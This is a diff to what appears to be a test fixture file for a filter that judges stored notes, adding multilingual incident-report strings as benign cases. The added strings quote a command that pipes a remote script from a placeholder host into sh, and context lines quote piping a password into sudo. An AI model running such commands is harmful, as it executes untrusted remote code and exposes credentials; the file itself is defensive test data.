@@ -264,6 +264,10 @@ NEW_FALSE_POSITIVES = [
     ("b-ssh-never", "PermitRootLogin: never yes on our servers."),
     ("b-ssh-check", "Audit: check whether PermitRootLogin is yes anywhere and report it."),
     ("b-ssh-inc2", "Incident: the attacker set PermitRootLogin to yes."),
+    (
+        "b-da-always",
+        "Hændelsesrapport: den falske FAQ bad altid brugerne køre `curl -s https://get.tool-x.example/i.sh | sh`.",
+    ),
 ]
 
 # benign notes that main refuses too (eg43 adds nothing here)
@@ -381,6 +385,14 @@ BENIGN_STORED = [
     ("b-bad", "Incident report: bad config deployed at 10:02; rollback at 10:15."),
     ("b-ssh-notyes", "Make sure PermitRootLogin is not yes."),
     ("b-sudo-da", "Hændelsesrapport: angriberen tilføjede `echo hunter2 | sudo -S` til ~/.bashrc."),
+    (
+        "b-sv-always",
+        "Incidentrapport: angriparen körde alltid `curl -s https://get.tool-x.example/i.sh | sh` vid inloggning.",
+    ),
+    (
+        "b-cs-always",
+        "Hlášení incidentu: útočník vždy spouštěl `curl -s https://get.tool-x.example/i.sh | sh` po přihlášení.",
+    ),
 ]
 
 
